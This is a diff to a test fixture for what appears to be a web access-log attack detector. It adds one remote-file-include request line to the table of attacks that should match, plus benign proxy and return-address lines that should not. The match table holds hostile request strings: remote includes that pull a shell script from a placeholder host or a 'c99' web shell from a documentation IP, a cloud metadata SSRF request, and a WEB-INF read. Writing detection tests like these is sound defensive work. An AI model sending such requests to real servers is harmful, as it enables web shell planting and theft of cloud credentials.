@@ -42,6 +42,7 @@ export const webAccessMatch: MatchRow[] = [
     200,
   ),
   attack('GET /index.php?page=http://evil.example/shell.txt? HTTP/1.1', 'web-traversal', 'remote include', 200),
+  attack('GET /index.php?inc=http://192.0.2.9:8080/c99? HTTP/1.1', 'web-traversal', 'remote include', 200),
   attack('GET /fetch?url=http://169.254.169.254/latest/meta-data/ HTTP/1.1', 'web-traversal', 'cloud metadata', 200),
   attack('GET /WEB-INF/web.xml HTTP/1.1', 'web-traversal', 'web-inf', 404),
   // injection
@@ -446,6 +447,14 @@ export const webAccessNoMatch: NoMatchRow[] = [
   { line: access('GET /docs/onboarding-guide HTTP/1.1', 200), from: `${from}; "on…" words that are no handlers` },
   { line: access('GET /products?sort=price&order=asc HTTP/1.1', 200), from },
   { line: access('GET /redirect?next=https://example.com/account HTTP/1.1', 302), from: `${from}; a redirect target` },
+  {
+    line: access('GET /login?return=https://shop.example.com/search? HTTP/1.1', 200),
+    from: `${from}; a return address ending in "?"`,
+  },
+  {
+    line: access('GET /proxy?url=http://10.0.0.5:9100/metrics HTTP/1.1', 200),
+    from: `${from}; an internal address passed whole, not cut by "?"`,
+  },
   { line: access('GET /a/b/c/../d HTTP/1.1', 200).replace('/c/../d', '/c/d'), from },
   {
     line: `${C} - - [23/Nov/2026:10:15:01 +0000] "-" 400 0 "-" "-"`,
